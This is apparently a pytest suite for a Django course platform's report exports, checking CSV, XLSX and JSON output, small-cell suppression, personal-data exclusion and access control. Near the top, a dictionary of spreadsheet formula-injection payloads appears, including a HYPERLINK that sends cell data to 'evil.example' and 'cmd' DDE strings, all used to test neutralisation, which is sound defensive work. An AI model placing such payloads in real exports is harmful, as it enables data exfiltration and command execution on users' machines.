"""Exports written at once: each kind in CSV, XLSX and JSON read back, typed cells, formula-like
text neutralised, small cells kept as "<5", bad input refused, and a bounded number of queries."""

import csv
import datetime
import io
import json
import re

import openpyxl
import pytest
from django.db import connection
from django.urls import reverse

from reports.exports.kinds import KINDS
from reports.exports.tables import INTEGER, NUMBER, SHARE, TEXT, Column, Table
from reports.exports.writers import csv_pieces, write_xlsx
from reports.models import ExportJob
from tests.factories import (
    enrol_user,
    make_cohort,
    make_course,
    make_facilitator_user,
    make_user,
)
from tests.quizzes.factories import add_single_choice, add_true_false, make_empty_quiz
from tests.quizzes.test_analysis_pages import take
from tests.reports.conftest import certificate, enrolment

PAGE = "/reports/exports/"
API = "/api/v1/exports/"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

# Text a spreadsheet could run or that hides what follows: each must come back neutralised.
FORMULA_LIKE = {
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")": "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "+1 555 0100": "'+1 555 0100",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "\n=1+1": "'\n=1+1",
    "Nul\x00=1+1": "Nul\ufffd=1+1",
}  # fmt: skip


def body(response) -> bytes:
    """The whole body of a response, streamed or not."""
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def read_csv(response) -> list[list[str]]:
    text = body(response).decode("utf-8")
    assert text.startswith("\ufeff")  # so that Excel reads UTF-8
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def read_xlsx(response):
    return openpyxl.load_workbook(io.BytesIO(body(response))).active


def xlsx_rows(sheet) -> list[list]:
    return [[_unescaped(v) for v in row] for row in sheet.iter_rows(values_only=True)]


def _unescaped(value):
    """Text as Excel reads it: XML cannot hold a carriage return as such, so XLSX writes
    `_x000D_`, which openpyxl leaves as it is."""
    if isinstance(value, str):
        return re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m[1], 16)), value)
    return value


def ask(client, kind, format, **parameters):
    """POST the page's form, as its buttons do."""
    return client.post(PAGE, {"kind": kind, "format": format, **parameters})


def ask_api(api_client, kind, format, **parameters):
    return api_client.post(
        API, {"kind": kind, "format": format, "parameters": parameters}, format="json"
    )


@pytest.fixture
def course(db):
    return make_course(slug="foundations", title="Foundations", modules=2, lessons_per_module=2)


@pytest.fixture
def reported(course, min_cell):
    """Two enrolments of the report (one completed with a certificate) in Kenya."""
    min_cell(1)
    done = enrolment(course, enrolled="2026-03-02", completed="2026-03-20", country="KE",
                     organisation_type="ngo", organisation="Haki Centre",
                     full_name="Wanjiru Kamau")  # fmt: skip
    certificate(done, issued="2026-03-21")
    enrolment(course, enrolled="2026-03-05", country="KE", full_name="Otieno Odhiambo")
    return done


# --- Completions -----------------------------------------------------------------------------


def test_completion_rows_download_as_csv_with_dates_in_utc(client_for, admin_user, reported):
    response = ask(client_for(admin_user), "completions", "csv", country="KE")

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="completions-')
    assert "no-store" in response["Cache-Control"]
    header, *rows = read_csv(response)
    assert header[:3] == ["Enrolment", "Course", "Course title"]
    row = dict(zip(header, rows[0], strict=True))
    assert row["Name"] == "Wanjiru Kamau" and row["Email"].endswith("@example.org")
    assert row["Country code"] == "KE" and row["Country"] == "Kenya"
    assert (row["Region"], row["Sub-region"]) == ("Africa", "Sub-Saharan Africa")
    assert row["Organisation"] == "Haki Centre"
    assert row["Organisation type"] == "NGO or civil society"
    assert row["Enrolled at (UTC)"] == "2026-03-02 12:00:00"
    assert row["Completed at (UTC)"] == "2026-03-20 12:00:00"
    assert row["Status"] == "Completed" and row["Certificate"] == "Valid"
    assert row["Enrolment"] == str(reported.pk)
    assert [r[header.index("Name")] for r in rows] == ["Wanjiru Kamau", "Otieno Odhiambo"]
    assert not ExportJob.objects.exists()  # small: written at once


def test_completion_rows_download_as_xlsx_with_typed_cells_and_a_bold_frozen_header(
    client_for, admin_user, reported
):
    response = ask(client_for(admin_user), "completions", "xlsx")

    assert response.status_code == 200
    assert response["Content-Type"] == XLSX
    assert response["Content-Disposition"].endswith('.xlsx"')
    sheet = read_xlsx(response)
    assert sheet.freeze_panes == "A2"
    assert all(cell.font.b for cell in sheet[1])
    assert sheet.column_dimensions["G"].width > 20  # names
    header, first, _second = xlsx_rows(sheet)
    row = dict(zip(header, first, strict=True))
    assert row["Enrolment"] == reported.pk and isinstance(row["Enrolment"], int)
    assert row["Enrolled at (UTC)"] == datetime.datetime(2026, 3, 2, 12, 0)
    enrolled_at = sheet.cell(2, header.index("Enrolled at (UTC)") + 1)
    assert enrolled_at.number_format == "yyyy-mm-dd hh:mm:ss"
    assert row["Name"] == "Wanjiru Kamau"
    assert sheet.auto_filter.ref == "A1:S3"


def test_the_api_answers_a_small_export_with_json_rows(api_client, admin_user, reported):
    api_client.force_authenticate(admin_user)

    response = ask_api(api_client, "completions", "json", country="KE", **{"from": "2026-03-01"})

    assert response.status_code == 200
    assert response["Content-Type"] == "application/json"
    data = json.loads(body(response))
    assert data["kind"] == "completions"
    assert {"key": "enrolled_at", "label": "Enrolled at (UTC)", "type": "datetime"} in data[
        "columns"
    ]
    first = data["rows"][0]
    assert first["name"] == "Wanjiru Kamau" and first["enrolment"] == reported.pk
    assert first["enrolled_at"] == "2026-03-02T12:00:00Z"
    assert first["completed_at"] == "2026-03-20T12:00:00Z"
    assert data["rows"][1]["completed_at"] is None


@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_formula_like_text_is_neutralised(client_for, admin_user, course, min_cell, format):
    min_cell(1)
    # PostgreSQL refuses NUL in text (and the platform refuses it at every door): it can only
    # come from SQLite here; the writers are given it below in any case.
    nul_ok = connection.vendor != "postgresql"
    stored = {k: v for k, v in FORMULA_LIKE.items() if nul_ok or "\x00" not in k}
    for n, text in enumerate(stored):
        enrolment(course, enrolled=f"2026-03-{n + 1:02d}", full_name=text, organisation=text)

    response = ask(client_for(admin_user), "completions", format)

    rows = read_csv(response) if format == "csv" else xlsx_rows(read_xlsx(response))
    header, *rows = rows
    names = [row[header.index("Name")] for row in rows]
    organisations = [row[header.index("Organisation")] for row in rows]
    assert names == list(stored.values())
    assert organisations == list(stored.values())


@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_the_writers_neutralise_every_trigger_in_text_and_headings(format):
    texts = list(FORMULA_LIKE)
    table = Table([Column("a", texts[0], TEXT), Column("b", "b", TEXT)],
                  [[text, "plain"] for text in texts])  # fmt: skip

    rows = _written(table, format)

    assert rows[0] == [FORMULA_LIKE[texts[0]], "b"]
    assert [row[0] for row in rows[1:]] == list(FORMULA_LIKE.values())


def _written(table, format) -> list[list]:
    if format == "csv":
        text = b"".join(csv_pieces(table)).decode("utf-8")
        assert text.startswith("\ufeff")
        return list(csv.reader(io.StringIO(text[1:], newline="")))
    file = io.BytesIO()
    write_xlsx(table, file, sheet="Sheet")
    return xlsx_rows(openpyxl.load_workbook(file).active)


@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_negative_numbers_stay_numbers_and_text_stays_text(format):
    table = Table(
        [Column("n", "n", INTEGER), Column("x", "x", NUMBER), Column("s", "s", SHARE),
         Column("t", "-t", TEXT)],
        [[-3, -2.5, -0.125, "-3"], [None, 0, 1, "<5"]],
    )  # fmt: skip

    rows = _written(table, format)

    if format == "csv":
        assert rows[1:] == [["-3", "-2.5", "-0.125", "'-3"], ["", "0", "1", "<5"]]
    else:
        assert rows[1:] == [[-3, -2.5, -0.125, "'-3"], [None, 0, 1, "<5"]]
    assert rows[0] == ["n", "x", "s", "'-t"]


@pytest.mark.parametrize("count", [5, 50])
def test_a_streamed_export_needs_the_same_queries_for_5_or_50_rows(
    client_for, admin_user, course, min_cell, count, django_assert_max_num_queries
):
    min_cell(1)
    for n in range(count):
        done = enrolment(course, enrolled="2026-03-02", completed="2026-03-09", country="KE")
        if n % 2:
            certificate(done, issued="2026-03-10")
    client = client_for(admin_user)

    with django_assert_max_num_queries(4):  # session, user, count, rows (COPY: not seen)
        response = ask(client, "completions", "csv")
        rows = read_csv(response)

    assert len(rows) == count + 1


# --- Statistics: aggregate only, suppressed --------------------------------------------------


@pytest.fixture
def countries(course, min_cell):
    """Kenya with 6 participants, Peru with 2: Peru's cells are small."""
    min_cell(5)
    for n in range(6):
        enrolment(course, enrolled="2026-03-02", country="KE",
                  completed="2026-03-09" if n < 3 else None)  # fmt: skip
    for _n in range(2):
        enrolment(course, enrolled="2026-03-02", country="PE")


@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_statistics_keep_small_cells_as_text(client_for, admin_user, countries, format):
    response = ask(client_for(admin_user), "statistics", format, group_by="country")

    assert response.status_code == 200
    rows = read_csv(response) if format == "csv" else xlsx_rows(read_xlsx(response))
    header, *rows = rows
    assert header == ["Country", "Enrolments", "Active participants", "Completions",
                      "Completion rate (%)", "Median days to complete", "Certificates issued",
                      "Certificates revoked"]  # fmt: skip
    by_country = {row[0]: row[1:] for row in rows}
    # As get_report says, cell by cell: Peru's 2 enrolments are "<5", never the number, and
    # Kenya's 6 are hidden (an en dash), or the total minus Kenya would give Peru's back.
    peru, kenya, total = by_country["Peru"], by_country["Kenya"], by_country["All"]
    assert peru[0] == "<5" and peru[2] == "<5"  # enrolments, completions
    assert kenya[0] == "\u2013" and total[0] == "\u2013"
    assert 2 not in peru and "2" not in peru
    zero = "0" if format == "csv" else 0  # figures that are shown stay numbers
    assert kenya[1] == zero and total[-1] == zero


def test_statistics_name_no_one(client_for, admin_user, reported):
    response = ask(client_for(admin_user), "statistics", "csv", group_by="cohort")

    text = body(response).decode("utf-8")
    assert "Wanjiru" not in text and "@example.org" not in text
    header, *rows = list(csv.reader(io.StringIO(text[1:])))
    assert header[:2] == ["Cohort", "Course"]
    assert rows[0][:3] == ["Self-paced", "Foundations", "2"]
    assert rows[-1][:3] == ["All", "", "2"]


def test_statistics_per_quiz(client_for, admin_user, reported, course):
    response = ask(client_for(admin_user), "statistics", "csv", group_by="quiz")

    header, *_rows = read_csv(response)
    assert header[:3] == ["Quiz", "Course", "Participants who submitted an attempt"]


# --- Cohort progress and question analysis ---------------------------------------------------


@pytest.fixture
def cohort(course, facilitator):
    cohort = make_cohort(course, name="Nairobi 2026")
    cohort.facilitators.add(facilitator)
    return cohort


def test_the_cohort_matrix_follows_the_dashboards_filters_and_order(
    client_for, facilitator, cohort, course
):
    for name in ("Amina", "Bola", "Chidi"):
        enrolment(course, enrolled="2026-03-02", cohort=cohort, full_name=name, country="NG",
                  completed="2026-03-09" if name != "Bola" else None)  # fmt: skip
    enrolment(course, enrolled="2026-03-02", cohort=cohort, full_name="Dede", country="GH")

    response = ask(client_for(facilitator), "cohort_progress", "xlsx", cohort=cohort.pk,
                   country="NG", state="completed", sort="name", order="desc")  # fmt: skip

    assert response.status_code == 200
    assert "progress-nairobi-2026-" in response["Content-Disposition"]
    header, *rows = xlsx_rows(read_xlsx(response))
    assert [row[0] for row in rows] == ["Chidi", "Amina"]
    assert header[:4] == ["Name", "Email", "Country", "Organisation"]
    assert "Module 1: lessons done (of 2)" in header and "Module 2: complete" in header
    row = dict(zip(header, rows[0], strict=True))
    assert row["Status"] == "Completed" and row["Course (%)"] == 100
    assert row["At risk"] is False and row["Country"] == "Nigeria"


@pytest.fixture
def quiz(cohort):
    quiz = make_empty_quiz(cohort.course.modules.first(), title="Due diligence check")
    add_single_choice(quiz, key="single", prompt="Which **pillar** covers remedy?")
    add_true_false(quiz, key="tf", prompt="States shed their duties by privatising.")
    return quiz


def _takers(cohort, count):
    users = [make_user() for _ in range(count)]
    for user in users:
        enrol_user(user, cohort.course, cohort)
    return users


@pytest.mark.parametrize("format", ["csv", "xlsx", "json"])
def test_the_question_analysis_exports_questions_and_answer_shares(
    client_for, api_client, facilitator, cohort, quiz, format, min_cell
):
    min_cell(5)
    for n, user in enumerate(_takers(cohort, 6)):
        take(user, quiz, right={"single"} if n % 2 else {"single", "tf"})
    api_client.force_authenticate(facilitator)

    response = ask_api(api_client, "item_analysis", format, quiz=quiz.pk, cohort=cohort.pk)

    assert response.status_code == 200
    if format == "json":
        data = json.loads(body(response))
        rows = [[row[c["key"]] for c in data["columns"]] for row in data["rows"]]
    else:
        rows = read_csv(response)[1:] if format == "csv" else xlsx_rows(read_xlsx(response))[1:]
    question, *answers = rows[:3]
    assert str(question[0]) == "1" and question[1] == "Which pillar covers remedy?"
    assert question[2] == "Single choice"
    assert str(question[4]) == "6" and str(question[6]) in ("1.0", "1")  # facility: all right
    assert [a[1] for a in answers] == ["Right", "Wrong"] and answers[0][2] == "Answer"
    assert str(answers[0][10]) == "6" and str(answers[1][10]) == "0"


def test_the_question_analysis_of_few_participants_shows_less_than_k(
    client_for, facilitator, cohort, quiz, min_cell
):
    min_cell(5)
    for user in _takers(cohort, 2):
        take(user, quiz, right={"single"})

    response = ask(client_for(facilitator), "item_analysis", "xlsx", quiz=quiz.pk,
                   cohort=cohort.pk)  # fmt: skip

    header, question, answer, *_rest = xlsx_rows(read_xlsx(response))
    assert question[header.index("Participants")] == 2
    assert question[header.index("Facility")] == "<5"
    assert answer[header.index("Chosen by")] == "<5"


def test_the_pages_offer_their_exports_with_their_filters(
    client_for, facilitator, admin_user, cohort, quiz
):
    response = client_for(facilitator).get(
        reverse("facilitate-cohort", args=[cohort.pk]), {"state": "at_risk", "page": "2"}
    )
    html = response.content.decode()
    assert f'action="{PAGE}"' in html and 'name="kind" value="cohort_progress"' in html
    assert f'name="cohort" value="{cohort.pk}"' in html
    assert 'name="state" value="at_risk"' in html and 'name="page"' not in html
    assert 'name="format" value="xlsx"' in html

    response = client_for(facilitator).get(
        reverse("facilitate-quiz-analysis", args=[cohort.pk, quiz.pk]), {"attempts": "all"}
    )
    html = response.content.decode()
    assert 'name="kind" value="item_analysis"' in html and 'name="attempts" value="all"' in html

    response = client_for(admin_user).get("/reports/", {"country": "KE"})
    html = response.content.decode()
    assert 'value="statistics"' in html and 'value="completions"' in html
    assert 'name="country" value="KE"' in html


# --- Bad input -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("request_body", "detail"),
    [
        ({"kind": "everything", "format": "csv"}, {"kind"}),
        ({"kind": "completions", "format": "pdf"}, {"format"}),
        ({"kind": "funder_pdf", "format": "csv"}, {"format"}),
        ({"kind": "funder_pdf", "format": "pdf", "parameters": {"country": "XX"}},
         {"parameters": {"country"}}),
        ({"kind": "funder_pdf", "format": "pdf", "parameters": {"group_by": "country"}},
         {"parameters"}),
        ({"kind": "completions", "format": "csv", "parameters": {"from": "01/03/2026"}},
         {"parameters": {"from"}}),
        ({"kind": "completions", "format": "csv", "parameters": {"country": "XX"}},
         {"parameters": {"country"}}),
        ({"kind": "completions", "format": "csv", "parameters": {"page": "2"}}, {"parameters"}),
        ({"kind": "completions", "format": "csv", "parameters": {"course": ["a", "b"]}},
         {"parameters"}),
        ({"kind": "statistics", "format": "csv", "parameters": {"group_by": "person"}},
         {"parameters": {"group_by"}}),
        ({"kind": "item_analysis", "format": "csv", "parameters": {}}, {"parameters": {"quiz"}}),
        ({"kind": "item_analysis", "format": "csv", "parameters": {"quiz": "x"}},
         {"parameters": {"quiz"}}),
        ({"kind": "completions", "format": "csv", "parameters": "from=2026"}, {"parameters"}),
    ],
)  # fmt: skip
def test_bad_input_is_a_400_naming_it_and_changes_nothing(
    api_client, admin_user, reported, request_body, detail
):
    api_client.force_authenticate(admin_user)

    response = api_client.post(API, request_body, format="json")

    assert response.status_code == 400
    assert response.json()["code"] == "invalid"
    got = response.json()["detail"]
    for name in detail:
        assert name in got
        if isinstance(detail, dict):
            assert set(got[name]) == detail[name]
    assert not ExportJob.objects.exists()


def test_bad_input_on_the_page_is_a_form_error(client_for, admin_user, reported):
    response = ask(client_for(admin_user), "completions", "csv", **{"from": "2026-03-02",
                                                                  "to": "2026-03-01"})  # fmt: skip

    assert response.status_code == 400
    assert "This export could not be started" in response.content.decode()
    assert "The last day comes before the first." in response.content.decode()
    assert not ExportJob.objects.exists()


def test_a_client_asking_for_csv_in_accept_gets_it_and_errors_in_json(
    api_client, admin_user, reported
):
    api_client.force_authenticate(admin_user)

    response = api_client.post(API, {"kind": "completions", "format": "csv"}, format="json",
                               HTTP_ACCEPT="text/csv")  # fmt: skip
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")

    response = api_client.post(API, {"kind": "completions", "format": "csv",
                                     "parameters": {"country": "XX"}}, format="json",
                               HTTP_ACCEPT="text/csv")  # fmt: skip
    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"


def test_a_facilitator_of_another_cohort_gets_a_404_and_nothing_is_made(api_client, cohort, course):
    other = make_facilitator_user()
    make_cohort(course).facilitators.add(other)
    api_client.force_authenticate(other)

    response = ask_api(api_client, "cohort_progress", "csv", cohort=cohort.pk)

    assert response.status_code == 404
    assert response.json() == {"code": "not_found", "detail": "Not found."}


def test_withdrawn_participants_are_not_in_the_matrix(client_for, facilitator, cohort, course):
    enrolment(course, enrolled="2026-03-02", cohort=cohort, full_name="Stays")
    enrolment(course, enrolled="2026-03-02", cohort=cohort, full_name="Left",
              withdrawn="2026-03-04")  # fmt: skip

    rows = read_csv(ask(client_for(facilitator), "cohort_progress", "csv", cohort=cohort.pk))

    assert [row[0] for row in rows[1:]] == ["Stays"]


@pytest.mark.parametrize(
    ("kind", "parameters"),
    [("statistics", {"group_by": group}) for group in ("", "cohort", "country", "month", "quiz")]
    + [("item_analysis", {})],
)
def test_the_aggregate_kinds_hold_no_personal_data(
    client_for, admin_user, cohort, quiz, min_cell, kind, parameters
):
    assert KINDS[kind].personal is False
    min_cell(1)
    takers = _takers(cohort, 3)
    for user in takers:
        take(user, quiz, right={"single"})
    if kind == "item_analysis":
        parameters = {"quiz": quiz.pk, "cohort": cohort.pk}

    text = body(ask(client_for(admin_user), kind, "csv", **parameters)).decode()

    header = next(csv.reader(io.StringIO(text[1:])))
    assert not {"Name", "Email", "Participant", "Enrolment"} & set(header)  # nor ids
    for user in takers:
        assert user.full_name not in text and user.email not in text
